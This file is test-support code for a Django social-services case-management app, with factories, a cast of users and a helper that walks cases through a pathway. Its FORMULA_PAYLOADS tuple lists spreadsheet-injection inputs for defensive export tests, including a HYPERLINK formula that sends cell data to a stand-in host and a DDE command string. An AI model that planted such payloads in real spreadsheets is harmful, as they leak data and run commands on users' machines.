"""Test support for every app's tests (needs factory_boy): the factories, the one cast of
actors (`build_actors`, `other_zone_cast`, `make_physician`), and the one `make_case`, which
opens a case through the opening service and walks it along the pathway to a stage.

Test code only: it may import any app, and no app imports it.
"""

import dataclasses
import datetime
import io
from dataclasses import dataclass

import factory
from django.urls import resolve, reverse
from django.utils import timezone
from openpyxl import load_workbook

from crocevia.accounts.models import Membership, Profile, User
from crocevia.assessments.preassessment import case_preassess
from crocevia.cases import services as case_services
from crocevia.cases.models import Case, NeedClass, Outcome, Review, Stage
from crocevia.cases.workflow import PLAN_KIND_FOR_NEED, case_transition
from crocevia.core.spreadsheets import looks_like_formula
from crocevia.core.text import fold
from crocevia.interventions.lep import lep_open_items
from crocevia.jobs.testing import run_jobs
from crocevia.network.models import Comune, Desk, Organisation, Zone, metropolitan_by_province
from crocevia.people.models import Consent, Person
from crocevia.people.services import consent_withdraw
from crocevia.people.sharing import network_sharing_consent
from crocevia.plans.services import plan_submit, plan_validate

PASSWORD = "Crocevia-test-2026"


class ZoneFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Zone
        django_get_or_create = ("code",)

    code = factory.Sequence(lambda n: f"Z{n:02d}")
    name = factory.Sequence(lambda n: f"Zona {n}")


class ComuneFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Comune
        django_get_or_create = ("istat_code",)

    istat_code = factory.Sequence(lambda n: f"{900000 + n:06d}")
    name = factory.Sequence(lambda n: f"Comune {n}")
    province = "PI"
    population = 10000
    zone = factory.SubFactory(ZoneFactory)
    # As network.services.comune_create sets it: from the province.
    in_metropolitan_city = factory.LazyAttribute(lambda c: metropolitan_by_province(c.province))


class OrganisationFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Organisation
        django_get_or_create = ("code",)

    code = factory.Sequence(lambda n: f"ORG{n:03d}")
    name = factory.Sequence(lambda n: f"Ente {n}")
    kind = Organisation.Kind.SDS
    zone = factory.SubFactory(ZoneFactory)
    comune = None


class DeskFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Desk
        django_get_or_create = ("code",)

    code = factory.Sequence(lambda n: f"DESK{n:03d}")
    organisation = factory.SubFactory(OrganisationFactory)
    name = factory.Sequence(lambda n: f"Sportello {n}")
    level = 1
    comune = factory.SubFactory(ComuneFactory)
    opening_hours = "Lunedì 9-12"


class UserFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = User
        django_get_or_create = ("username",)
        skip_postgeneration_save = True

    username = factory.Sequence(lambda n: f"user{n}")
    first_name = "Anna"
    last_name = factory.Sequence(lambda n: f"Operatrice{n}")
    password = factory.PostGenerationMethodCall("set_password", PASSWORD)

    @factory.post_generation
    def _save(obj, create, extracted, **kwargs):
        if create:
            obj.save()


class PersonFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Person

    family_name = factory.Sequence(lambda n: f"Cognome{n}")
    given_names = "Amina"
    sex = "F"
    birth_date = datetime.date(1990, 5, 17)
    citizenship = "SN"
    birth_country = "SN"
    search_name = factory.LazyAttribute(lambda o: fold(f"{o.family_name} {o.given_names}"))


def make_member(username, organisation, profile, desks=(), **user_fields) -> User:
    user = UserFactory(username=username, **user_fields)
    membership = Membership.objects.create(user=user, organisation=organisation, profile=profile)
    if desks:
        membership.desks.set(desks)
    return user


@dataclass
class Actors:
    """The cast of every test (DESIGN.md): the roles of an organisation (`sds`) and its zone,
    with a CPI of the zone, and an organisation of another zone with its desk operator (the
    outsider). `other_zone_cast` gives the same cast seen from the other zone;
    `make_physician` adds a physician of an ASL service of the zone."""

    zone: Zone
    other_zone: Zone
    pisa: Comune
    livorno: Comune
    sds: Organisation
    cpi: Organisation
    other_org: Organisation
    desk: Desk
    other_desk: Desk
    desk_operator: User
    social_worker: User
    cpi_consultant: User
    coordinator: User
    outsider: User
    monitoring_officer: User
    admin: User


def build_actors() -> Actors:
    zone = ZoneFactory(code="ZPI", name="Zona Pisana")
    other_zone = ZoneFactory(code="ZLI", name="Zona Livornese")
    pisa = ComuneFactory(
        istat_code="050026", name="Pisa", province="PI", population=90118, zone=zone
    )
    livorno = ComuneFactory(
        istat_code="049009", name="Livorno", province="LI", population=157000, zone=other_zone
    )
    sds = OrganisationFactory(
        code="SDS-PI", name="SdS Zona Pisana", kind="sds", zone=zone, comune=pisa
    )
    cpi = OrganisationFactory(code="CPI-PI", name="CPI Pisa", kind="cpi", zone=zone, comune=pisa)
    other_org = OrganisationFactory(
        code="COM-LI", name="Comune di Livorno", kind="comune", zone=other_zone, comune=livorno
    )
    desk = DeskFactory(
        code="SPI-PISA", organisation=sds, name="Sportello immigrati Pisa", comune=pisa
    )
    other_desk = DeskFactory(
        code="SPI-LIVORNO", organisation=other_org, name="Sportello Livorno", comune=livorno
    )
    admin = UserFactory(username="admin", is_staff=True, is_superuser=True)
    return Actors(
        zone=zone,
        other_zone=other_zone,
        pisa=pisa,
        livorno=livorno,
        sds=sds,
        cpi=cpi,
        other_org=other_org,
        desk=desk,
        other_desk=other_desk,
        desk_operator=make_member("sportello", sds, Profile.DESK_OPERATOR, desks=[desk]),
        social_worker=make_member("assistente", sds, Profile.SOCIAL_WORKER),
        cpi_consultant=make_member("consulente", cpi, Profile.CPI_CONSULTANT),
        coordinator=make_member("coordinatore", sds, Profile.COORDINATOR),
        outsider=make_member("esterno", other_org, Profile.DESK_OPERATOR, desks=[other_desk]),
        monitoring_officer=make_member("monitoraggio", sds, Profile.MONITORING_OFFICER),
        admin=admin,
    )


def other_zone_cast(actors: Actors) -> Actors:
    """The cast of the outsider's zone, mirroring ours: the outsider is its desk operator,
    with a social worker and a coordinator of its organisation and a CPI of its own (with a
    consultant); our desk operator is its outsider. Build it once per test."""
    cpi_li = OrganisationFactory(
        code="CPI-LI", name="CPI Livorno", kind="cpi", zone=actors.other_zone, comune=actors.livorno
    )
    DeskFactory(code="CPI-LI-DESK", organisation=cpi_li, comune=actors.livorno)
    return dataclasses.replace(
        actors,
        zone=actors.other_zone,
        other_zone=actors.zone,
        pisa=actors.livorno,
        livorno=actors.pisa,
        sds=actors.other_org,
        cpi=cpi_li,
        other_org=actors.sds,
        desk=actors.other_desk,
        other_desk=actors.desk,
        desk_operator=actors.outsider,
        social_worker=make_member("assistente-li", actors.other_org, Profile.SOCIAL_WORKER),
        cpi_consultant=make_member("consulente-li", cpi_li, Profile.CPI_CONSULTANT),
        coordinator=make_member("coordinatore-li", actors.other_org, Profile.COORDINATOR),
        outsider=actors.desk_operator,
    )


def make_physician(actors: Actors, username="medico") -> tuple[User, Organisation]:
    """A physician of an ASL service of the zone (reads health information on a team), and
    that service."""
    asl = OrganisationFactory(
        code="ASL-PI", name="UFSMA Pisa", kind="asl_service", zone=actors.zone
    )
    return make_member(username, asl, Profile.PHYSICIAN), asl


# --- persons and cases ----------------------------------------------------------------------


def days_ago(n: int) -> datetime.date:
    return timezone.localdate() - datetime.timedelta(days=n)


def give_consent(person, actor) -> Consent:
    return Consent.objects.create(
        person=person,
        scope=Consent.Scope.NETWORK_SHARING,
        given_on=days_ago(90),
        collected_by=actor,
    )


def make_person(actors: Actors, *, consent: bool = True, **fields) -> Person:
    """A person registered by the cast's organisation (by its social worker), with their
    consent to sharing within the network unless `consent=False`."""
    fields.setdefault("created_by_organisation", actors.sds)
    fields.setdefault("created_by", actors.social_worker)
    person = PersonFactory(**fields)
    if consent:
        give_consent(person, actors.social_worker)
    return person


# The milestones a case may be given, in pathway order, with the days before today each
# one falls on unless the caller gives it.
MILESTONE_DAYS_AGO = {
    "referred_on": 60,
    "preassessed_on": 50,
    "team_formed_on": 40,
    "assessed_on": 30,
    "plan_signed_on": 20,
    "plan_started_on": 10,
    "closed_on": 0,
}
# The stages each need class passes through after the referral (PATHWAY.md).
PATH = {
    NeedClass.COMPLEX: [
        Stage.PREASSESSED,
        Stage.TEAM_FORMED,
        Stage.ASSESSED,
        Stage.PLAN_SIGNED,
        Stage.IN_PROGRESS,
    ],
    NeedClass.WORK: [Stage.PREASSESSED, Stage.PLAN_SIGNED, Stage.IN_PROGRESS],
    NeedClass.SOCIAL: [Stage.PREASSESSED, Stage.PLAN_SIGNED, Stage.IN_PROGRESS],
}
MILESTONE_OF = {
    Stage.PREASSESSED: "preassessed_on",
    Stage.TEAM_FORMED: "team_formed_on",
    Stage.ASSESSED: "assessed_on",
    Stage.PLAN_SIGNED: "plan_signed_on",
    Stage.IN_PROGRESS: "plan_started_on",
    Stage.CLOSED: "closed_on",
}
_DEFAULT = object()
# Why make_case closes a complex case over its open LEP obligation.
LEP_REASON = "Chiuso senza interventi avviati"


def _milestone_days(given: dict) -> dict[str, datetime.date]:
    """Every milestone's day: the given ones, the others at their default, moved where
    needed so that each falls on or after the one before and on or before the next given
    one (a case pre-assessed in 2019 was referred in 2019 too)."""
    names = list(MILESTONE_DAYS_AGO)
    ceiling, bound = {}, timezone.localdate()
    for name in reversed(names):
        ceiling[name] = bound
        if given.get(name) is not None:
            bound = min(bound, given[name])
    days, previous = {}, None
    for name in names:
        day = given.get(name)
        if day is None:
            day = days_ago(MILESTONE_DAYS_AGO[name])
            if previous is not None:
                day = max(day, previous)
            day = min(day, ceiling[name])
        days[name] = previous = day
    return days


def make_case(
    actors: Actors,
    *,
    stage: str = Stage.REFERRED,
    need_class: str = NeedClass.COMPLEX,
    person=None,
    consent: bool = True,
    preassess: bool = True,
    area: str = "other",
    organisation=None,
    opened_by=None,
    case_manager=_DEFAULT,
    outcome: str = Outcome.EMPLOYED,
    closing_note: str = "Assunto a tempo determinato",
    **milestones,
) -> Case:
    """A case at `stage`, opened by case_open_direct and walked there step by step through
    the services and case_transition, each step audited as in use.

    - The case is the organisation's (default: the cast's `sds`), opened by `opened_by`
      (default: the cast's social worker), who takes every step but the team's; its person
      is `person` or a new one of the organisation (with consent unless `consent=False`).
    - Milestones fall 60, 50, 40, 30, 20 and 10 days ago, closure today; any may be given
      (`preassessed_on=...`), the others move to keep the pathway's order.
    - Pre-assessment goes through case_preassess, so the cast's social worker and CPI
      consultant join the team (section A: declared health "Diabete di tipo 2"); with
      `preassess=False`, through the bare transition: no intake, no team.
    - `case_manager`: named by the cast's coordinator after the pre-assessment (at the
      opening for a referred case), and so on the team. Default: the social worker, for a
      complex case that reaches team formation (the coordinator forms the team); nobody
      otherwise.
    - A closed case walks its whole path first (its final review held on the closing day
      when it reached the plan), then closes with `outcome`; a complex one over its open
      LEP obligation (no intervention started), with the reason LEP_REASON.
    """
    unknown = set(milestones) - set(MILESTONE_DAYS_AGO)
    if unknown:
        raise TypeError(f"make_case takes no {sorted(unknown)}")
    closing = stage == Stage.CLOSED
    path = PATH[need_class]
    if not closing and stage != Stage.REFERRED and stage not in path:
        raise ValueError(f"a {need_class} case never reaches {stage}")
    steps = [] if stage == Stage.REFERRED else path if closing else path[: path.index(stage) + 1]
    if case_manager is _DEFAULT:
        complex_team = need_class == NeedClass.COMPLEX and Stage.TEAM_FORMED in steps
        case_manager = actors.social_worker if complex_team else None
    actor = opened_by or actors.social_worker
    days = _milestone_days(milestones)
    if person is None:
        person = make_person(actors, consent=consent)

    def name_manager(case):
        if case_manager is None:
            return case
        return case_services.case_set_manager(
            actor=actors.coordinator, case=case, user=case_manager
        )

    # Opening asks for the basis of sharing (people.sharing): a person without consent
    # gives it at the opening (today) and withdraws it at once (as the cast's `consent=False`
    # promises: no active consent while the case walks on).
    given_now = network_sharing_consent(person) is None
    case = case_services.case_open_direct(
        actor=actor,
        person=person,
        organisation=organisation or actors.sds,
        referred_on=days["referred_on"],
        sharing={"consent_now": given_now},
    )
    if given_now and not consent:
        consent_withdraw(
            actor=actor,
            consent=network_sharing_consent(person),
            withdrawn_on=timezone.localdate(),
        )
    if not steps:
        return name_manager(case)
    for step in steps:
        day = days[MILESTONE_OF[step]]
        if step == Stage.PREASSESSED and preassess:
            case = case_preassess(
                actor=actor,
                case=case,
                on=day,
                need_class=need_class,
                area=area,
                social_worker=actors.social_worker,
                cpi_consultant=actors.cpi_consultant,
                health_declared="Diabete di tipo 2",
                work_history="Bracciante agricolo",
            )
        elif step == Stage.PREASSESSED:
            case = case_transition(
                case=case, actor=actor, to_stage=step, on=day, need_class=need_class, area=area
            )
        elif step == Stage.TEAM_FORMED:
            case = case_services.case_form_team(actor=actors.coordinator, case=case, on=day)
        elif step == Stage.PLAN_SIGNED:
            case = case_transition(
                case=case,
                actor=actor,
                to_stage=step,
                on=day,
                plan_kind=PLAN_KIND_FOR_NEED[need_class],
            )
        else:
            case = case_transition(case=case, actor=actor, to_stage=step, on=day)
        if step == Stage.PREASSESSED:
            case = name_manager(case)
    if closing:
        if case.plan_signed_on is not None:
            # The final review (services.closure): held on the day the case closes.
            review = case_services.review_schedule(
                actor=actor, case=case, scheduled_on=days["closed_on"], kind=Review.Kind.EXIT
            )
            case_services.review_record(
                actor=actor, review=review, held_on=days["closed_on"], notes="Verifica finale"
            )
        case = case_services.case_close(
            actor=actor,
            case=case,
            on=days["closed_on"],
            outcome=outcome,
            closing_note=closing_note,
            # A complex case walked here has no intervention: its LEP obligation is open
            # (interventions.lep), and closing over it takes a reason.
            open_items_reason=LEP_REASON if lep_open_items(case) else "",
        )
    return case


# --- formula injection (issue 15) ---------------------------------------------------------

# Texts a spreadsheet would evaluate: OWASP's examples, a tab, full-width and spaced forms.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://example.org/x?d="&A1;"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\uff1d1+1",
    "  =1+1",
)


def workbook_texts(data: bytes) -> tuple[list[str], list[str]]:
    """(every text of an XLSX file, the cells a spreadsheet could evaluate): a cell is
    unsafe if it is a formula, or a formula-like text without the quote prefix."""
    texts, unsafe = [], []
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                if cell.data_type == "f":
                    unsafe.append(f"{where}: a formula")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                    if looks_like_formula(cell.value) and not cell.quotePrefix:
                        unsafe.append(f"{where}: formula-like text without quote prefix")
    return texts, unsafe


def unsafe_csv_cells(rows: list[list[str]]) -> list[str]:
    """The cells of a CSV file (as read by `csv.reader`) that a spreadsheet evaluates."""
    return [
        f"line {line}: {cell!r}"
        for line, row in enumerate(rows, start=1)
        for cell in row
        if looks_like_formula(cell)
    ]


def state_before_migration(executor, app: str, suffix: str) -> list[tuple[str, str]]:
    """The migration targets just before `app`'s migration named `*suffix` (whatever its
    number), for a test that loads data as it was and migrates it forward."""
    [name] = [n for a, n in executor.loader.disk_migrations if a == app and n.endswith(suffix)]
    migration = executor.loader.get_migration(app, name)
    return [dependency for dependency in migration.dependencies if dependency[0] == app]


# --- plans --------------------------------------------------------------------------------


def validate_plan(actors: Actors, plan, *, on=None):
    """Submit the plan's draft as its case's manager and validate it as the cast's
    coordinator, both on `on` (default: the case's assessment or pre-assessment day, the
    earliest a signature may follow): what an inclusion project needs before it is signed.
    Returns the validated version."""
    case = plan.case
    case.refresh_from_db()
    day = on or case.assessed_on or case.preassessed_on or timezone.localdate()
    plan_submit(actor=case.case_manager or actors.admin, plan=plan, on=day)
    return plan_validate(actor=actors.coordinator, plan=plan, on=day)


# --- the job queue and prepared files -----------------------------------------------------


def run_queued_jobs() -> int:
    """Every job of the queue ready now, run in this process as `crocevia worker --batch`
    does (crocevia.jobs.testing); returns how many ran."""
    return run_jobs()


def fetch_prepared(client, response):
    """What a user gets by following an answer that sends them to a prepared file's page
    (crocevia.downloads): the worker runs the queued jobs, the page then offers the
    download, and the download's response is returned (status 200: the file, whose
    bytes are `.getvalue()`). AssertionError when any step answers otherwise."""
    location = response.get("Location", "") if response.status_code == 302 else ""
    match = resolve(location.split("?", 1)[0]) if location else None
    if match is None or match.view_name != "downloads:file":
        raise AssertionError(f"not sent to a prepared file: {response.status_code} {location}")
    run_queued_jobs()
    page = client.get(location)
    download = reverse("downloads:download", args=[match.kwargs["pk"]])
    if page.status_code != 200 or download not in page.content.decode():
        raise AssertionError(f"the file is not ready: {page.content.decode()[:2000]}")
    answer = client.get(download)
    if answer.status_code != 200:
        raise AssertionError(f"the download answered {answer.status_code}")
    return answer
